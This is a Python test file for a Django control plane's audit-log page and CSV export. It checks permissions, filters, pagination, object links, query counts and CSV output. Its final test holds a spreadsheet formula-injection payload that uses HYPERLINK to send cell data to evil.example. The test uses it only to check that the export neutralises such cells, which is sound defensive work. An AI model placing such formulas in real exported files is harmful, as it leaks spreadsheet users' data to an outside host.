import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from controlplane import audit
from controlplane.models import AuditSource

AUDIT = reverse("audit")
AUDIT_CSV = reverse("audit-csv")
# session, user, user perms, group perms, roles, count, page, object types, the objects
# of each type that has a page (two types below), the navigation's approvals count,
# heartbeats (base.html's footer)
MAX_QUERIES = 12


def record(actor, action, object_type="regions.stack", object_id="1", **kwargs):
    return audit.record(
        actor,
        action,
        source=AuditSource.CONSOLE,
        object_type=object_type,
        object_id=object_id,
        object_repr=f"{object_type}:{object_id}",
        **kwargs,
    )


@pytest.fixture
def events(db):
    return [
        record("otto-operator", "drill.requested", "experiments.drill", "7"),
        record("anna-approver", "drill.approved", "experiments.drill", "7"),
        record(
            "ada-admin",
            "stack.rotation_changed",
            before={"in_rotation": True, "health_url": "https://a/health"},
            after={"in_rotation": False, "health_url": "https://a/health"},
        ),
        record("system", "inventory.discovered", "inventory", ""),
    ]


def rows(response):
    return response.content.decode().count('<td class="num mono">')


def test_approver_and_admin_see_the_audit_log(client_for, approver, admin, events):
    for user in (approver, admin):
        response = client_for(user).get(AUDIT)
        assert response.status_code == 200
        assert rows(response) == 4
        assert "drill.approved" in response.content.decode()


def test_viewer_and_operator_get_403(client_for, viewer, operator, events):
    for user in (viewer, operator):
        assert client_for(user).get(AUDIT).status_code == 403
        assert client_for(user).get(AUDIT_CSV).status_code == 403


def test_audit_link_is_in_the_nav_only_for_those_who_may_see_it(client_for, viewer, approver):
    overview = reverse("regions:overview")
    assert f'href="{AUDIT}"' not in client_for(viewer).get(overview).content.decode()
    assert f'href="{AUDIT}"' in client_for(approver).get(overview).content.decode()


def test_events_show_seq_actor_source_action_object_and_request_id(client_for, approver, db):
    record("ada-admin", "stack.updated", "regions.stack", "42", request_id="req-abc123")

    html = client_for(approver).get(AUDIT).content.decode()

    for text in ("ada-admin", "Console", "stack.updated", "regions.stack:42", "req-abc123"):
        assert text in html


def test_before_and_after_are_summarised_in_details(client_for, approver, events):
    html = client_for(approver).get(AUDIT).content.decode()

    assert "1 field changed" in html
    assert "<span class=\"mono\">in_rotation</span>" in html
    assert '<span class="mono old">true</span>' in html
    assert '<span class="mono new">false</span>' in html


def test_filter_by_actor(client_for, approver, events):
    response = client_for(approver).get(AUDIT, {"actor": "anna-approver"})

    assert rows(response) == 1
    assert "drill.approved" in response.content.decode()


def test_filter_by_action_prefix(client_for, approver, events):
    response = client_for(approver).get(AUDIT, {"action": "drill."})

    html = response.content.decode()
    assert rows(response) == 2
    assert "stack.rotation_changed" not in html


def test_the_action_filter_finds_halt_rows_written_under_their_old_names(client_for, approver, events):
    record("otto-operator", "drills.halt", "experiments.haltstate", "1")
    record("ada-admin", "drills.clear_halt", "experiments.haltstate", "1")
    record("otto-operator", "halt.halted", "experiments.haltstate", "1")
    client = client_for(approver)

    def actions(prefix):
        page = client.get(AUDIT, {"action": prefix})
        return sorted(event.action for event in page.context["page"].object_list)

    assert actions("halt.") == ["drills.clear_halt", "drills.halt", "halt.halted"]
    assert actions("halt.cleared") == ["drills.clear_halt"]
    assert actions("drills.") == ["drills.clear_halt", "drills.halt"]  # what they read
    assert actions("drill.") == ["drill.approved", "drill.requested"]  # no halt: not a drill's
    response = client.get(AUDIT_CSV, {"action": "halt."})
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [line[4] for line in lines[1:]] == ["drills.halt", "drills.clear_halt", "halt.halted"]


def test_filter_by_object_type(client_for, approver, events):
    response = client_for(approver).get(AUDIT, {"object_type": "experiments.drill"})

    assert rows(response) == 2


def test_filter_by_object(client_for, approver, events):
    record("anna-approver", "drill.rejected", "experiments.drill", "8")
    client = client_for(approver)

    response = client.get(AUDIT, {"object_type": "experiments.drill", "object_id": "7"})

    assert [e.action for e in response.context["page"].object_list] == ["drill.approved", "drill.requested"]
    assert 'data-audit-object="experiments.drill:7"' in response.content.decode()
    assert f'href="{AUDIT_CSV}?object_type=experiments.drill&amp;object_id=7"' in response.content.decode()
    response = client.get(AUDIT_CSV, {"object_type": "experiments.drill", "object_id": "7"})
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(line[4], line[6]) for line in lines[1:]] == [("drill.requested", "7"), ("drill.approved", "7")]
    assert rows(client.get(AUDIT, {"object_type": "regions.stack", "object_id": "7"})) == 0


@pytest.fixture
def inventory(db):
    from experiments.scenarios import ensure_builtin_scenarios
    from regions.models import Application, Component, Region, Stack

    ensure_builtin_scenarios()
    app = Application.objects.create(name="orders", architecture="A")
    stack = Stack.objects.create(application=app, region=Region.objects.create(code="us-east-1"))
    component = Component.objects.create(stack=stack, kind="lambda_function", identifier="orders-api")
    return app, stack, component


def object_links(response):
    """{object_type:object_id: the href of its link} for the rows of the page."""
    html = response.content.decode()
    links = {}
    for row in html.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]:
        label = row.split('<span class="mono muted small">')[1].split("</span>")[0]
        if "data-object-link" in row:
            links[label] = row.split("data-object-link")[0].rsplit('href="', 1)[1].split('"')[0]
    return links


def test_every_row_links_to_its_objects_page(client_for, approver, inventory):
    from experiments.models import HaltState, Scenario

    app, stack, component = inventory
    scenario = Scenario.objects.get(slug="fail-region-health-check")
    for obj in (app, stack, component, scenario):
        audit.record("ada-admin", "inventory.update", source=AuditSource.COMMAND, obj=obj)
    HaltState.objects.create(pk=1, halted=True, reason="incident")
    record("otto-operator", "halt.halted", "experiments.haltstate", "1")
    record("ada-admin", "inventory.delete", "regions.stack", "999")  # gone: no page
    record("ada-admin", "inventory.update", "regions.stack", "not-a-number")
    record("system", "inventory.discovered", "inventory", "x")  # no model
    record("system", "audit.key_rotated", "controlplane.auditkey", "k2")  # no model

    links = object_links(client_for(approver).get(AUDIT))

    assert links == {
        f"regions.application:{app.pk}": "/apps/orders/",
        f"regions.stack:{stack.pk}": "/apps/orders/us-east-1/",
        f"regions.component:{component.pk}": "/apps/orders/us-east-1/",
        f"experiments.scenario:{scenario.pk}": "/drills/scenarios/fail-region-health-check/",
        "experiments.haltstate:1": "/drills/",
    }


def test_a_user_row_links_to_the_admin_only_for_who_may_open_it(client_for, make_user, approver, admin):
    superuser = make_user("sue-super", "admin")
    superuser.is_superuser = True
    superuser.save(update_fields=["is_superuser"])
    audit.record("system", "user.create", source=AuditSource.COMMAND, obj=approver)
    label = f"auth.user:{approver.pk}"

    admin_page = f"/admin/auth/user/{approver.pk}/change/"
    assert object_links(client_for(superuser).get(AUDIT)) == {label: admin_page}
    assert object_links(client_for(approver).get(AUDIT)) == {}  # no admin, no page
    assert object_links(client_for(admin).get(AUDIT)) == {}  # staff, but the role holds no user permission


def test_each_row_links_to_its_objects_events(client_for, approver, events):
    html = client_for(approver).get(AUDIT).content.decode()

    assert f'href="{AUDIT}?object_type=experiments.drill&amp;object_id=7" data-object-events' in html
    assert f'href="{AUDIT}?object_type=regions.stack&amp;object_id=1" data-object-events' in html


def test_object_type_select_lists_the_known_types(client_for, approver, events):
    html = client_for(approver).get(AUDIT, {"object_type": "inventory"}).content.decode()

    assert '<option value="experiments.drill">' in html
    assert '<option value="inventory" selected>' in html


def test_filter_by_time_range(client_for, approver, events):
    client = client_for(approver)
    today = timezone.now().date()
    yesterday, tomorrow = today - timedelta(days=1), today + timedelta(days=1)

    assert rows(client.get(AUDIT, {"since": today, "until": today})) == 4
    assert rows(client.get(AUDIT, {"since": tomorrow})) == 0
    assert rows(client.get(AUDIT, {"until": yesterday})) == 0
    assert rows(client.get(AUDIT, {"since": yesterday, "until": tomorrow})) == 4


def test_invalid_date_shows_an_error_not_a_500(client_for, approver, events):
    response = client_for(approver).get(AUDIT, {"since": "yesterday-ish"})

    html = response.content.decode()
    assert response.status_code == 200
    assert "The filter is not valid" in html
    assert "Enter a valid date" in html
    assert rows(response) == 0


def test_since_after_until_shows_an_error(client_for, approver, events):
    response = client_for(approver).get(AUDIT, {"since": "2025-02-01", "until": "2025-01-01"})

    assert response.status_code == 200
    assert "must be on or before" in response.content.decode()


# Not named "page": that is pytest-playwright's fixture, and borrowing its name would
# pull the browser (and its reordering) into this test.
@pytest.mark.parametrize("page_number", ["abc", "0", "-1", "999", "1.5"])
def test_bad_page_number_shows_a_message_not_a_500(client_for, approver, events, page_number):
    response = client_for(approver).get(AUDIT, {"page": page_number})

    assert response.status_code == 200
    assert "alert--warn" in response.content.decode()
    assert rows(response) == 4


def test_pagination_keeps_the_filters(client_for, approver, db):
    for i in range(55):
        record("otto-operator", "drill.requested", "experiments.drill", str(i))
    record("anna-approver", "drill.approved", "experiments.drill", "1")
    client = client_for(approver)

    first = client.get(AUDIT, {"actor": "otto-operator"})
    html = first.content.decode()
    assert rows(first) == 50
    assert "Page 1 of 2" in html
    assert f'href="{AUDIT}?actor=otto-operator&amp;page=2"' in html

    second = client.get(AUDIT, {"actor": "otto-operator", "page": 2})
    assert rows(second) == 5
    assert "drill.approved" not in second.content.decode()


def test_csv_link_keeps_the_filters(client_for, approver, events):
    html = client_for(approver).get(AUDIT, {"action": "drill."}).content.decode()

    assert f'href="{AUDIT_CSV}?action=drill."' in html


def test_csv_export_has_the_header_and_the_filtered_rows(client_for, approver, events):
    response = client_for(approver).get(AUDIT_CSV, {"action": "drill."})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert lines[0][:5] == ["seq", "created_at", "actor", "source", "action"]
    assert [line[4] for line in lines[1:]] == ["drill.requested", "drill.approved"]


def test_htmx_request_gets_only_the_events_partial(client_for, approver, events):
    response = client_for(approver).get(
        AUDIT, {"actor": "ada-admin"}, headers={"HX-Request": "true"}
    )

    html = response.content.decode()
    assert html.lstrip().startswith('<section id="audit-events"')
    assert "<html" not in html
    assert rows(response) == 1
    assert "HX-Request" in response["Vary"]


def test_query_count_is_pinned_and_independent_of_page_size(
    client_for, approver, db, django_assert_max_num_queries
):
    client = client_for(approver)
    record("ada-admin", "stack.updated", before={"a": 1}, after={"a": 2})
    record("ada-admin", "stack.updated", "experiments.drill", "1")
    with CaptureQueriesContext(connection) as one:
        client.get(AUDIT)

    for i in range(60):
        record(f"user-{i}", "stack.updated", object_id=str(i), before={"a": i}, after={"a": 0})
        record(f"user-{i}", "stack.updated", "experiments.drill", str(i))
    with django_assert_max_num_queries(MAX_QUERIES):
        response = client.get(AUDIT, {"action": "stack."})
    assert rows(response) == 50
    with CaptureQueriesContext(connection) as full:
        client.get(AUDIT)

    assert len(full) == len(one) <= MAX_QUERIES


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(
    client_for, approver, db, start
):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    audit.record(f"{start}mallory", "stack.updated", source=AuditSource.CONSOLE,
                 object_type="regions.stack", object_id=f"{start}7", object_repr=formula)
    audit.record("ada-admin", "stack.updated", source=AuditSource.CONSOLE,
                 object_type="regions.stack", object_repr="a-b = c", after={"n": -1})

    response = client_for(approver).get(AUDIT_CSV)
    header, attacked, plain = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))

    cell = dict(zip(header, attacked, strict=True))
    assert cell["actor"] == f"'{start}mallory"
    assert cell["object_id"] == f"'{start}7"
    assert cell["object_repr"] == f"'{formula}"
    cell = dict(zip(header, plain, strict=True))
    assert (cell["actor"], cell["object_repr"], cell["after"]) == ("ada-admin", "a-b = c", '{"n": -1}')
